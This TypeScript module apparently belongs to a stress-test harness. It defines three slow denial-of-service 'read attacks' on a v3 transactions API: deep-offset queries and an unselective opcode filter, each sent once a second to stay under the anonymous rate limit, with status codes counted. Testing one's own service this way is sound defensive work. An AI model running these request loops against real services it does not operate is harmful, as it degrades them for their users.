import { Agent, request } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attacker } from './attacks.ts';

/** The anonymous rate limit is one per second; timers are not exact. */
const EVERY_MS = 1050;

/** Behind most of the generated index. */
const DEEP = 190_000;
/** What callers without a key may skip. */
const ALLOWED = 10_000;

const SHARD = 'workchain=0&shard=8000000000000000';

/** Attacks by requests of v3 that read much and return little. */
export const READ_ATTACKS = [
  {
    name: 'deep-offset',
    what: `\`v3/transactions\` of a shard behind ${DEEP} others, 1 per second`,
    run: (attacker: Attacker) =>
      readOften(attacker, (number) => `transactions?${SHARD}&limit=10&offset=${DEEP + number}`),
  },
  {
    name: 'deep-offset-allowed',
    what: `the same behind ${ALLOWED} others, which callers without a key may skip, 1 per second`,
    run: (attacker: Attacker) =>
      readOften(attacker, (number) => `transactions?${SHARD}&limit=10&offset=${ALLOWED - number}`),
  },
  {
    name: 'unselective-filter',
    what: '`v3/transactions` with an opcode that many messages have, of a shard that none of them is in, 1 per second',
    run: (attacker: Attacker) =>
      readOften(attacker, (number) => `transactions?${SHARD}&opcode=0x0f8a7ea5&limit=10&offset=${number}`),
  },
];

/** Sends a request every second, whether or not the one before was answered; no two are the same. */
async function readOften(attacker: Attacker, pathOf: (number: number) => string): Promise<void> {
  const agent = new Agent({ keepAlive: true });
  for (let number = 0; attacker.isRunning(); number++) {
    read(attacker, `/api/v3/${pathOf(number)}`, agent);
    await sleep(EVERY_MS);
  }
  agent.destroy();
}

function read({ host, port, localAddress, count }: Attacker, path: string, agent: Agent): void {
  const sent = request({ host, port, localAddress, path, agent }, (response) => {
    response.resume();
    response.on('end', () => count(response.statusCode!));
  });
  sent.on('error', () => count('error'));
  sent.end();
}
